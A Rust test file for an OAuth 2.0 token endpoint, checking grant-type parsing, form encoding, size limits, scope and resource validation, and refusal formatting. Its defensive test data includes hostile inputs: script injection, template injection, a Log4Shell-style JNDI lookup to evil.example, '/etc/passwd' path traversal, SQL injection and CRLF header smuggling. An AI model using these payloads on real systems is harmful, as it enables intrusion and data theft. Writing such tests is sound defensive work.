//! The token request on the wire: transport, form, grant, scope and target
//! ([RFC 6749 §3.2 and §4.4](https://www.rfc-editor.org/rfc/rfc6749#section-4.4), RFC 8707).

use std::collections::BTreeSet;
use std::thread;

use insta::assert_snapshot;
use serde_json::Value;

use crate::support::http::{self, Answer};
use crate::support::{Credentials, TestApp, decode_jwt};

const FORM: &str = "application/x-www-form-urlencoded";

/// A server without a throttle, and an app with both scopes.
fn server() -> (TestApp, Credentials) {
    let app = TestApp::with(&[("throttle-failures", "off")]);
    let client = app.create_app(&["billing:read", "billing:write"]);
    (app, client)
}

/// Sends a body as it is, with good credentials in the header.
fn send_body(app: &TestApp, client: &Credentials, content_type: &str, body: &[u8]) -> Answer {
    let headers = [("authorization", &*client.basic()), ("content-type", content_type)];
    http::send("POST", &format!("{}/connect/token", app.url), &headers, Some(body))
}

/// Sends `client_credentials` with more parameters.
fn ask(app: &TestApp, client: &Credentials, more: &str) -> Answer {
    let body = format!("grant_type=client_credentials&{more}");
    send_body(app, client, FORM, body.as_bytes())
}

/// Status and error code of a refusal that has everything a refusal must have.
fn refusal(what: &str, answer: &Answer) -> String {
    assert_eq!(answer.header("content-type"), "application/json", "{what}");
    assert_eq!(answer.header("cache-control"), "no-store", "{what}");
    assert_eq!(answer.header("pragma"), "no-cache", "{what}");
    let body = answer.json();
    assert_eq!(body["access_token"], Value::Null, "{what}");
    let code = answer.error();
    for member in ["error", "error_description"] {
        let text = body[member].as_str().unwrap_or_default();
        let allowed = |c: char| matches!(c, '\x20'..='\x21' | '\x23'..='\x5b' | '\x5d'..='\x7e');
        assert!(!text.is_empty() && text.chars().all(allowed), "{what}: {member} is {text:?}");
    }
    let error_uri = format!("http://127.0.0.1:8080/docs/errors#{code}");
    assert_eq!(body["error_uri"], *error_uri, "{what}");
    format!("{} {code}", answer.status.as_u16())
}

/// The status of an answer read from a raw connection.
fn raw_status(answer: &str) -> &str {
    answer.split(' ').nth(1).unwrap_or(answer)
}

#[test]
fn a_token_answer_has_the_form_of_rfc_6749_and_nothing_more() {
    let (app, client) = server();
    let answer = ask(&app, &client, "scope=billing:read").assert_status(200);
    let mut body = answer.json();
    let token = body["access_token"].take();
    assert_eq!(token.as_str().unwrap().split('.').count(), 3);
    assert_snapshot!(body, @r#"{"access_token":null,"expires_in":86400,"scope":"billing:read","token_type":"Bearer"}"#);
    let mut headers: Vec<String> = answer
        .headers
        .iter()
        .filter(|(name, _)| !matches!(name.as_str(), "date" | "x-request-id" | "content-length"))
        .map(|(name, value)| format!("{name}: {}", value.to_str().unwrap()))
        .collect();
    headers.sort();
    assert_snapshot!(headers.join("\n"), @r"
    cache-control: no-store
    content-type: application/json
    pragma: no-cache
    x-content-type-options: nosniff
    ");
}

#[test]
fn the_grant_type_must_be_there_and_spelt_exactly() {
    let (app, client) = server();
    let long = format!("grant_type={}", "x".repeat(5_000));
    let cases = [
        ("missing", "", "400 invalid_request"),
        ("empty", "grant_type=", "400 invalid_request"),
        ("no value", "grant_type", "400 invalid_request"),
        ("other case", "grant_type=Client_Credentials", "400 unsupported_grant_type"),
        ("other case in the name", "GRANT_TYPE=client_credentials", "400 invalid_request"),
        ("a space after", "grant_type=client_credentials+", "400 unsupported_grant_type"),
        ("a space before", "grant_type=%20client_credentials", "400 unsupported_grant_type"),
        ("a NUL after", "grant_type=client_credentials%00", "400 invalid_request"),
        ("a line break after", "grant_type=client_credentials%0a", "400 invalid_request"),
        ("a full-width underscore", "grant_type=client%EF%BC%BFcredentials", "400 unsupported_grant_type"),
        ("a Cyrillic letter", "grant_type=cli%D0%B5nt_credentials", "400 unsupported_grant_type"),
        ("a zero-width space", "grant_type=client_credentials%E2%80%8B", "400 unsupported_grant_type"),
        ("as an array", "grant_type[]=client_credentials", "400 invalid_request"),
        ("very long", &long, "400 unsupported_grant_type"),
        ("password", "grant_type=password&username=a&password=b", "400 unsupported_grant_type"),
        ("code", "grant_type=authorization_code&code=a", "400 unsupported_grant_type"),
        ("refresh", "grant_type=refresh_token&refresh_token=a", "400 unsupported_grant_type"),
        (
            "device",
            "grant_type=urn:ietf:params:oauth:grant-type:device_code&device_code=a",
            "400 unsupported_grant_type",
        ),
        (
            "token exchange without all it needs",
            "grant_type=urn:ietf:params:oauth:grant-type:token-exchange&subject_token=a",
            "400 invalid_request",
        ),
        ("SAML", "grant_type=urn:ietf:params:oauth:grant-type:saml2-bearer&assertion=a", "400 unsupported_grant_type"),
        ("implicit", "grant_type=implicit", "400 unsupported_grant_type"),
        ("null", "grant_type=null", "400 unsupported_grant_type"),
    ];
    for (what, body, expected) in cases {
        let answer = send_body(&app, &client, FORM, body.as_bytes());
        assert_eq!(refusal(what, &answer), expected, "{what}");
    }
}

#[test]
fn any_parameter_twice_is_refused_but_resource() {
    let (app, client) = server();
    for (what, more) in [
        ("grant_type, the same", "grant_type=client_credentials"),
        ("grant_type, another", "grant_type=password"),
        ("scope, the same", "scope=billing:read&scope=billing:read"),
        ("scope, another", "scope=billing:read&scope=billing:write"),
        ("scope, one of them empty", "scope=&scope=billing:read"),
        ("scope, one of them encoded", "scope=billing:read&sc%6Fpe=billing:write"),
        ("audience", "audience=https://billing.example&audience=https://billing.example"),
        ("client_id", "client_id=a&client_id=a"),
        ("client_secret", "client_secret=a&client_secret=b"),
        ("an unknown one", "x=1&x=2"),
    ] {
        assert_eq!(refusal(what, &ask(&app, &client, more)), "400 invalid_request", "{what}");
    }
    let twice = "resource=https://billing.example&resource=https://billing.example";
    ask(&app, &client, twice).assert_status(200);
}

#[test]
fn an_empty_parameter_counts_as_absent() {
    let (app, client) = server();
    for more in
        ["scope=", "scope", "resource=", "audience=&scope=", "client_id=&client_secret=", "client_assertion=", "&&=&"]
    {
        let answer = ask(&app, &client, more).assert_status(200);
        assert_eq!(answer.json()["scope"], "billing:read billing:write", "{more}");
    }
}

#[test]
fn unknown_parameters_are_ignored_and_leave_no_trace_in_the_token() {
    let (app, client) = server();
    let more = "admin=true&exp=9999999999&sub=root&claims=%7B%22admin%22%3Atrue%7D&tenant=globex&iss=https://evil.example\
                &client_name=evil&expires_in=999999&lifetime=999999&nonce=evil&response_type=code&redirect_uri=https://evil.example";
    let answer = ask(&app, &client, more).assert_status(200);
    let (_, mut claims) = decode_jwt(answer.json()["access_token"].as_str().unwrap());
    claims["jti"].take();
    claims["sub"].take();
    assert_eq!(claims["client_id"].take(), *client.client_id);
    assert_snapshot!(claims, @r#"{"aud":"https://billing.example","client_id":null,"exp":1795392000,"iat":1795305595,"iss":"http://127.0.0.1:8080","jti":null,"nbf":1795305595,"scope":"billing:read billing:write","sub":null,"tenant":"acme"}"#);
}

#[test]
fn credentials_and_grant_in_the_url_are_refused_even_if_right() {
    let (app, client) = server();
    let (id, secret) = (&client.client_id, &client.secret);
    let whole_form = client.form();
    let encoded_name = format!("client%5Fsecret={secret}");
    for (what, query, body) in [
        ("everything in the URL", &*whole_form, ""),
        ("everything twice", &whole_form, &*whole_form),
        ("the secret", &format!("client_secret={secret}"), &format!("grant_type=client_credentials&client_id={id}")),
        ("the secret under an encoded name", &encoded_name, &whole_form),
        ("the id", &format!("client_id={id}"), &format!("grant_type=client_credentials&client_secret={secret}")),
        ("the grant", "grant_type=client_credentials", &format!("client_id={id}&client_secret={secret}")),
        ("the scope", "scope=billing:read", &whole_form),
        ("the target", "x=1&resource=https://billing.example", &whole_form),
        ("an assertion", "client_assertion=a.b.c", &whole_form),
    ] {
        let answer = http::post_form(&format!("{}/connect/token?{query}", app.url), &[], body);
        assert_eq!(refusal(what, &answer), "400 invalid_request", "{what}");
    }
    http::post_form(&format!("{}/connect/token?trace=1", app.url), &[], &whole_form).assert_status(200);
}

#[test]
fn other_methods_are_told_to_use_post() {
    let (app, client) = server();
    let basic = client.basic();
    let headers = [
        ("authorization", &*basic),
        ("content-type", FORM),
        ("x-http-method-override", "POST"),
        ("x-method-override", "POST"),
    ];
    for method in ["GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "post"] {
        let url = format!("{}/connect/token?_method=POST", app.url);
        let body: Option<&[u8]> = matches!(method, "PUT" | "PATCH").then_some(b"grant_type=client_credentials");
        let answer = http::send(method, &url, &headers, body).assert_status(405);
        assert_eq!(answer.header("allow"), "POST", "{method}");
        assert_eq!(answer.header("content-type"), "application/json", "{method}");
        assert_eq!(answer.header("cache-control"), "no-store", "{method}");
        if method == "HEAD" {
            assert_eq!(answer.body, "");
        } else {
            assert_eq!(answer.error(), "invalid_request", "{method}");
        }
    }
}

#[test]
fn only_a_form_is_read() {
    let (app, client) = server();
    let form = b"grant_type=client_credentials";
    for content_type in [
        FORM,
        "Application/X-WWW-Form-URLEncoded",
        "application/x-www-form-urlencoded;charset=UTF-8",
        "application/x-www-form-urlencoded; charset=utf-8",
        "application/x-www-form-urlencoded; CHARSET=\"UTF-8\"",
        "application/x-www-form-urlencoded ; charset=utf-8",
    ] {
        let answer = send_body(&app, &client, content_type, form);
        assert_eq!(answer.status, 200, "{content_type}: {}", answer.body);
    }
    let json = br#"{"grant_type":"client_credentials"}"#;
    let multipart =
        b"--x\r\nContent-Disposition: form-data; name=\"grant_type\"\r\n\r\nclient_credentials\r\n--x--\r\n";
    for (content_type, body) in [
        ("application/json", &json[..]),
        ("application/json", form),
        ("multipart/form-data; boundary=x", multipart),
        ("text/plain", form),
        ("application/x-www-form-urlencoded; charset=utf-16", form),
        ("application/x-www-form-urlencoded; charset=iso-8859-1", form),
        ("application/x-www-form-urlencoded2", form),
        ("application/x-www-form-urlencoded, text/plain", form),
        ("x-www-form-urlencoded", form),
        ("/", form),
        ("", form),
    ] {
        let answer = send_body(&app, &client, content_type, body);
        assert_eq!(refusal(content_type, &answer), "400 invalid_request", "{content_type}");
    }
    let url = format!("{}/connect/token", app.url);
    let basic = client.basic();
    let without = http::send("POST", &url, &[("authorization", &*basic)], Some(form));
    assert_eq!(refusal("no content type", &without), "400 invalid_request");
    let twice = [("authorization", &*basic), ("content-type", FORM), ("content-type", "text/plain")];
    let twice = http::send("POST", &url, &twice, Some(form));
    assert_eq!(refusal("two content types", &twice), "400 invalid_request");
}

#[test]
fn what_is_ambiguous_in_a_form_is_refused_and_not_repaired() {
    let (app, client) = server();
    let utf16: Vec<u8> = "grant_type=client_credentials".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let cases: [(&str, &[u8], &str); 17] = [
        ("a lone percent sign", b"grant_type=client_credentials&x=%", "400 invalid_request"),
        ("half an escape", b"grant_type=client_credentials&x=%4", "400 invalid_request"),
        ("an escape without hex digits", b"grant_type=client_credentials&x=%zz", "400 invalid_request"),
        ("an escape with a sign", b"grant_type=client_credentials&x=%+1", "400 invalid_request"),
        ("an escape of 16 bits", b"grant_type=client_credentials&x=%u0041", "400 invalid_request"),
        ("octets that are not UTF-8", b"grant_type=client_credentials&x=\xff\xfe", "400 invalid_request"),
        ("escapes that are not UTF-8", b"grant_type=client_credentials&x=%ff%fe", "400 invalid_request"),
        ("an overlong letter", b"grant_type=client_credentials&x=%c1%a1", "400 invalid_request"),
        ("a surrogate", b"grant_type=client_credentials&x=%ed%a0%80", "400 invalid_request"),
        ("a NUL", b"grant_type=client_credentials&scope=billing:read%00", "400 invalid_request"),
        ("a NUL in a name", b"grant_type=client_credentials&sco%00pe=billing:read", "400 invalid_request"),
        ("a line break", b"grant_type=client_credentials&x=a%0d%0aSet-Cookie:%20a=b", "400 invalid_request"),
        ("a C1 control character", b"grant_type=client_credentials&x=%c2%85", "400 invalid_request"),
        ("a byte order mark", b"\xef\xbb\xbfgrant_type=client_credentials", "400 invalid_request"),
        ("UTF-16", &utf16, "400 invalid_request"),
        (
            "semicolons between parameters",
            b"grant_type=client_credentials;scope=billing:read",
            "400 unsupported_grant_type",
        ),
        ("JSON", br#"{"grant_type":"client_credentials"}"#, "400 invalid_request"),
    ];
    for (what, body, expected) in cases {
        let answer = send_body(&app, &client, FORM, body);
        assert_eq!(refusal(what, &answer), expected, "{what}");
    }
}

#[test]
fn a_control_character_in_any_field_is_refused() {
    let (app, client) = server();
    for field in ["grant_type", "client_id", "client_secret", "scope", "resource", "audience", "client_assertion", "x"]
    {
        for octet in ["%00", "%0a", "%0d", "%1b", "%7f"] {
            let value = match field {
                "client_id" => &client.client_id,
                "client_secret" => &client.secret,
                "grant_type" => "client_credentials",
                _ => "a",
            };
            let others = client.form().replace(&format!("{field}={value}"), "");
            let answer = app.token_request(&[], &format!("{others}&{field}={value}{octet}"));
            let what = format!("{octet} in {field}");
            assert_eq!(refusal(&what, &answer), "400 invalid_request", "{what}");
        }
    }
}

#[test]
fn a_body_over_64_kib_is_refused_at_once() {
    let (app, client) = server();
    let padded = |length: usize| {
        let mut body = client.form() + "&padding=";
        body.push_str(&"x".repeat(length - body.len()));
        body
    };
    app.token_request(&[], &padded(65_536)).assert_status(200);
    for length in [65_537, 70_000] {
        let answer = app.token_request(&[], &padded(length));
        assert_eq!(refusal("too large", &answer), "413 invalid_request", "{length}");
    }
    let head = format!("POST /connect/token HTTP/1.1\r\nHost: id.example\r\nContent-Type: {FORM}\r\n");
    let send = |length: usize| {
        let announced = format!("{head}Content-Length: {length}\r\n\r\n");
        let body = padded(length);
        let whole = format!("{announced}{body}");
        let chunked = format!("{head}Transfer-Encoding: chunked\r\n\r\n{length:x}\r\n{body}\r\n0\r\n\r\n");
        for (what, octets) in [("announced", announced), ("sent", whole), ("in chunks", chunked)] {
            let answer = http::raw(app.address(), octets.as_bytes());
            assert_eq!(raw_status(&answer), "413", "{length} octets {what}: {answer}");
            let answers = answer.matches("HTTP/1.1").count();
            assert_eq!(answers, 1, "the body is not a second request: {answer}");
        }
    };
    thread::scope(|scope| {
        for length in [70_000, 1_000_000, 8_000_000] {
            let send = &send;
            scope.spawn(move || send(length));
        }
    });
    app.token_request(&[], &client.form()).assert_status(200);
}

#[test]
fn thousands_of_parameters_are_refused() {
    let (app, client) = server();
    for (what, body) in [
        ("20,000 without a value", "a&".repeat(20_000)),
        ("10,000 different", (0..10_000).map(|n| format!("{n}&")).collect()),
        ("30,000 with no name", "=&".repeat(30_000)),
    ] {
        assert_eq!(refusal(what, &ask(&app, &client, &body)), "400 invalid_request", "{what}");
    }
    ask(&app, &client, &"&".repeat(60_000)).assert_status(200);
}

#[test]
fn a_content_encoding_is_refused_whether_it_is_true_or_not() {
    let (app, client) = server();
    for coding in ["gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", "", "x"] {
        let headers = [("authorization", &*client.basic()), ("content-encoding", coding)];
        let answer = app.token_request(&headers, "grant_type=client_credentials");
        assert_eq!(refusal(coding, &answer), "415 invalid_request", "{coding}");
    }
}

#[test]
fn a_scope_that_is_unknown_foreign_or_malformed_is_refused() {
    let (app, client) = server();
    app.create_organisation("globex");
    app.create_api("globex", "https://stock.example", &["stock:read"]);
    app.create_api("acme", "https://mail.example", &["mail:send"]);
    let distinct: String = (0..3_000).map(|n| format!("s{n}+")).collect();
    let equal = "nothing+".repeat(3_000);
    for (what, scope) in [
        ("unknown", "billing:delete"),
        ("unknown beside a known one", "billing:read+billing:delete"),
        ("another organisation's", "billing:read+stock:read"),
        ("another API's, not granted", "mail:send"),
        ("the management API's, not granted", "apps:read"),
        ("openid", "openid"),
        ("everything", "*"),
        ("the default", ".default"),
        ("other case", "Billing:Read"),
        ("part of one", "billing"),
        ("two joined by a comma", "billing:read,billing:write"),
        ("only spaces", "+++"),
        ("a tab between", "billing:read%09billing:write"),
        ("a no-break space between", "billing:read%C2%A0billing:write"),
        ("a quote", "%22billing:read%22"),
        ("a backslash", "billing%5C:read"),
        ("not ASCII", "billing:r%C3%A9ad"),
        ("a zero-width space", "billing:read%E2%80%8B"),
        ("markup", "%3Cscript%3E"),
        ("SQL", "'+OR+'1'%3D'1"),
        ("3,000 different", &distinct),
        ("3,000 equal", &equal),
    ] {
        let answer = ask(&app, &client, &format!("scope={scope}"));
        let expected = if scope.contains("%09") { "400 invalid_request" } else { "400 invalid_scope" };
        assert_eq!(refusal(what, &answer), expected, "{what}");
    }
}

#[test]
fn a_scope_is_granted_once_whatever_order_and_spaces_it_comes_with() {
    let (app, client) = server();
    let thousands = "billing:read+".repeat(3_000);
    for (asked, granted) in [
        ("", "billing:read billing:write"),
        ("billing:read", "billing:read"),
        ("billing:write", "billing:write"),
        ("billing:write+billing:read", "billing:read billing:write"),
        ("billing:read++billing:write+", "billing:read billing:write"),
        ("billing:read+billing:read", "billing:read"),
        (&thousands, "billing:read"),
    ] {
        let answer = ask(&app, &client, &format!("scope={asked}")).assert_status(200);
        assert_eq!(answer.json()["scope"], granted);
        let (_, claims) = decode_jwt(answer.json()["access_token"].as_str().unwrap());
        assert_eq!(claims["scope"], granted);
    }
}

#[test]
fn a_resource_narrows_and_one_that_is_not_ours_to_give_is_refused() {
    let (app, _) = server();
    app.create_api("acme", "https://mail.example/v1", &["mail:send"]);
    app.create_api("acme", "urn:acme:archive", &["archive:read"]);
    app.create_organisation("globex");
    app.create_api("globex", "https://stock.example", &["stock:read"]);
    let client = app.create_app(&["billing:read", "mail:send"]);
    for (what, more, aud, scope) in [
        ("one", "resource=https://billing.example", "\"https://billing.example\"", "billing:read"),
        ("by its other name", "audience=https://mail.example/v1", "\"https://mail.example/v1\"", "mail:send"),
        (
            "two",
            "resource=https://billing.example&resource=https://mail.example/v1",
            "[\"https://billing.example\",\"https://mail.example/v1\"]",
            "billing:read mail:send",
        ),
        (
            "both names",
            "resource=https://billing.example&audience=https://billing.example",
            "\"https://billing.example\"",
            "billing:read",
        ),
        (
            "with a scope of it",
            "resource=https://mail.example/v1&scope=mail:send",
            "\"https://mail.example/v1\"",
            "mail:send",
        ),
        ("none", "", "[\"https://billing.example\",\"https://mail.example/v1\"]", "billing:read mail:send"),
        ("none, but a scope", "scope=mail:send", "\"https://mail.example/v1\"", "mail:send"),
    ] {
        let answer = ask(&app, &client, more).assert_status(200);
        let (_, claims) = decode_jwt(answer.json()["access_token"].as_str().unwrap());
        assert_eq!(claims["aud"].to_string(), aud, "{what}");
        assert_eq!(answer.json()["scope"], scope, "{what}");
    }
    let huge = format!("https://billing.example/{}", "x".repeat(50_000));
    for (what, resource) in [
        ("relative", "/billing"),
        ("a bare word", "billing"),
        ("without a scheme", "//billing.example"),
        ("with a fragment", "https://billing.example%23a"),
        ("with an empty fragment", "https://billing.example%23"),
        ("with a slash more", "https://billing.example/"),
        ("with a port more", "https://billing.example:443"),
        ("in upper case", "HTTPS://BILLING.EXAMPLE"),
        ("with a space", "https://billing.example+"),
        ("a part of one", "https://mail.example"),
        ("another organisation's", "https://stock.example"),
        ("one of ours that the app has no scope of", "urn:acme:archive"),
        ("the management API", "http://127.0.0.1:8080/api/v1"),
        ("the issuer", "http://127.0.0.1:8080"),
        ("the app itself", &client.client_id),
        ("nobody's", "https://evil.example"),
        ("huge", &huge),
    ] {
        for name in ["resource", "audience", "resource=https://billing.example&resource"] {
            let answer = ask(&app, &client, &format!("{name}={resource}"));
            assert_eq!(refusal(what, &answer), "400 invalid_target", "{what} as {name}");
        }
    }
    let scope_of_another = ask(&app, &client, "resource=https://billing.example&scope=mail:send");
    assert_eq!(refusal("a scope of another API", &scope_of_another), "400 invalid_scope");
}

#[test]
fn the_answer_is_json_whatever_the_client_would_rather_have() {
    let (app, client) = server();
    for accept in ["text/html", "application/xml", "*/*;q=0", "image/png, text/html;q=0.9", "nonsense"] {
        let basic = client.basic();
        let headers = [("authorization", &*basic), ("accept", accept), ("accept-encoding", "gzip;q=0")];
        let good = app.token_request(&headers, "grant_type=client_credentials").assert_status(200);
        assert_eq!(good.header("content-type"), "application/json", "{accept}");
        let bad = app.token_request(&headers, "grant_type=password");
        assert_eq!(refusal(accept, &bad), "400 unsupported_grant_type");
    }
}

#[test]
fn nothing_that_was_sent_comes_back() {
    let (app, client) = server();
    for (what, sent, must_not_appear) in [
        ("markup", "%3Cscript%3Ealert(7)%3C/script%3E", "<script"),
        ("a template", "%7B%7B7*7%7D%7D", "49"),
        ("a look-up", "$%7Bjndi:ldap://evil.example/a%7D", "evil.example"),
        ("a path", "../../etc/passwd", "passwd"),
        ("SQL", "'+OR+1%3D1+--", "OR"),
        ("a header", "evil-marker%0d%0aX-Evil:%201", "evil-marker"),
    ] {
        for field in ["grant_type", "scope", "resource", "audience", "client_id", "client_secret", sent] {
            let others = client.form().replace(&format!("{field}="), "other=");
            let answer = app.token_request(&[("x-request-id", "evil-id")], &format!("{others}&{field}={sent}"));
            let refused = answer.status != 200 || field == sent;
            assert!(refused, "{what} in {field}");
            assert!(
                answer.status == 200 || !answer.body.contains(must_not_appear),
                "{what} in {field}: {}",
                answer.body
            );
            let headers = format!("{:?}", answer.headers).to_lowercase();
            assert!(!headers.contains("evil"), "{what} in {field}: {headers}");
        }
    }
}

#[test]
fn parallel_requests_each_get_a_token_of_their_own() {
    let (app, client) = server();
    let tokens: BTreeSet<String> = thread::scope(|scope| {
        let asking: Vec<_> = (0..48).map(|_| scope.spawn(|| app.token(&client))).collect();
        asking.into_iter().map(|asked| asked.join().unwrap()).collect()
    });
    let ids: BTreeSet<String> = tokens.iter().map(|token| decode_jwt(token).1["jti"].to_string()).collect();
    assert_eq!(ids.len(), 48);
    // 22 characters of base64url: 128 random bits.
    assert!(ids.iter().all(|id| id.trim_matches('"').len() >= 22), "{ids:?}");
}

#[test]
fn every_error_code_has_its_place_on_the_page_that_error_uri_names() {
    let app = TestApp::with(&[("throttle-failures", "1/min")]);
    let client = app.create_app(&["billing:read"]);
    let page = app.get("/docs/errors", &[]).assert_status(200);
    assert_eq!(page.header("content-type"), "text/html; charset=utf-8");
    let wrong = format!("grant_type=client_credentials&client_id={}&client_secret=wrong", client.client_id);
    for (more, expected) in [
        ("grant_type=", "400 invalid_request"),
        ("grant_type=password", "400 unsupported_grant_type"),
        ("grant_type=client_credentials&scope=x", "400 invalid_scope"),
        ("grant_type=client_credentials&resource=x", "400 invalid_target"),
        (&wrong, "401 invalid_client"),
        (&wrong, "429 temporarily_unavailable"),
    ] {
        let basic = client.basic();
        let headers: &[_] = if more == wrong { &[] } else { &[("authorization", &*basic)] };
        let answer = app.token_request(headers, more);
        assert_eq!(refusal(more, &answer), expected);
        let anchor = format!("id=\"{}\"", answer.error());
        assert!(page.body.contains(&anchor), "{anchor} is missing on the page");
    }
}
